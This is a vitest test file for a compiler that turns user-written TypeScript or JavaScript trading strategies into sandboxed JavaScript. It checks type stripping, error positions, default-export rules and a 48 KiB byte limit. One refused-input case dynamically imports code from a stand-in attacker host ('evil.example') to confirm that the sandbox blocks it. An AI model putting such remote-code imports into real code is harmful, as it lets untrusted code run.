import { describe, expect, it } from "vitest";
import { compileStrategy, MAX_SOURCE_BYTES } from "../../shared/strategy/compile";
import { STARTER_SOURCE } from "../../web/src/lab/starter";

const TS_STRATEGY = `interface Bar { close: number }
const threshold: number = 100;

export default {
  params: { qty: 1 } as { qty: number },
  onBar(bar: Bar, ctx: { buy(o: { qty: number }): string }): void {
    if (bar.close < threshold) ctx.buy({ qty: 1 });
  },
};
`;

describe("compiling a strategy at save", () => {
  it("compiles the app's starter code under either language (switched to JavaScript, it was a syntax error)", () => {
    for (const language of ["ts", "js"] as const) expect(compileStrategy(STARTER_SOURCE, language), language).toMatchObject({ ok: true });
  });

  it("compiles valid TypeScript to JavaScript with every type annotation gone", () => {
    const result = compileStrategy(TS_STRATEGY, "ts");
    if (!result.ok) throw new Error(result.error.message);
    expect(result.js).not.toMatch(/interface|: number|: Bar|as \{/);
    expect(result.js).toContain("export default");
    expect(result.js).toContain("ctx.buy({ qty: 1 })");
    // The output parses as plain JavaScript.
    expect(compileStrategy(result.js, "js").ok).toBe(true);
  });

  it("keeps line numbers, so a run-time error's line points at what the user wrote", () => {
    const result = compileStrategy(TS_STRATEGY, "ts");
    if (!result.ok) throw new Error(result.error.message);
    expect(result.js.split("\n").findIndex((l) => l.includes("ctx.buy"))).toBe(TS_STRATEGY.split("\n").findIndex((l) => l.includes("ctx.buy")));
  });

  it("reports a TypeScript syntax error at its line and column (1-based)", () => {
    const source = "const a: number = 1;\nexport default {\n  onBar(bar) { const x: = 2; },\n};\n";
    const result = compileStrategy(source, "ts");
    expect(result.ok).toBe(false);
    if (result.ok) return;
    // "  onBar(bar) { const x: = 2; }": the stray "=" is the 25th character of line 3.
    expect(result.error).toMatchObject({ line: 3, column: 25 });
    expect(result.error.message).toContain("line 3, column 25");
  });

  it("refuses type annotations in JavaScript, at their place", () => {
    const result = compileStrategy("export default {\n  onBar(bar: number) {},\n};\n", "js");
    expect(result).toMatchObject({ ok: false, error: { line: 2, column: 12 } });
  });

  it("accepts JavaScript as it is", () => {
    const source = "export default { onBar(bar, ctx) { ctx.log(bar.close ?? 0); } };\n";
    expect(compileStrategy(source, "js")).toEqual({ ok: true, js: source });
  });

  it.each([
    ["a static import", 'import { sma } from "indicators";\nexport default {};'],
    ["a type-only import (tsc would erase it; the sandbox has nothing to import)", 'import type { Bar } from "redfire";\nexport default {};'],
    ["a dynamic import", 'export default { async onStart() { await import("https://evil.example/x.js"); } };'],
    ["a re-export of everything", 'export * from "other";\nexport default {};'],
    ["a named re-export", 'export { helper } from "other";\nexport default {};'],
  ])("refuses %s: the sandbox has no modules besides the strategy", (_what, source) => {
    const result = compileStrategy(source, "ts");
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error.message).toMatch(/no modules besides itself/);
    expect(result.error.line).toBeGreaterThanOrEqual(1);
  });

  it("refuses a module without a default export, saying how to write one", () => {
    const result = compileStrategy("export const strategy = { onBar() {} };\n", "js");
    expect(result).toMatchObject({ ok: false, error: { message: expect.stringContaining("export default") } });
  });

  it.each([
    ["an object", "export default { onBar() {} };"],
    ["a class instance", "class Trend { onBar() {} }\nexport default new Trend();"],
    ["a named binding exported as default", "const s = { onBar() {} };\nexport { s as default };"],
  ])("accepts %s as the default export", (_what, source) => {
    expect(compileStrategy(source, "js").ok).toBe(true);
  });

  it("refuses sources above 48 KiB without parsing them", () => {
    const source = `export default {};\n${"//".padEnd(MAX_SOURCE_BYTES, "x")}`;
    const result = compileStrategy(source, "js");
    expect(result).toMatchObject({ ok: false, error: { message: expect.stringContaining("48 KiB") } });
    expect(MAX_SOURCE_BYTES).toBe(49_152);
  });

  it("counts the limit in UTF-8 bytes, not characters", () => {
    const source = `export default {};\n// ${"€".repeat(17_000)}`; // 51,000 bytes in 17,000-odd characters
    expect(compileStrategy(source, "js").ok).toBe(false);
  });
});
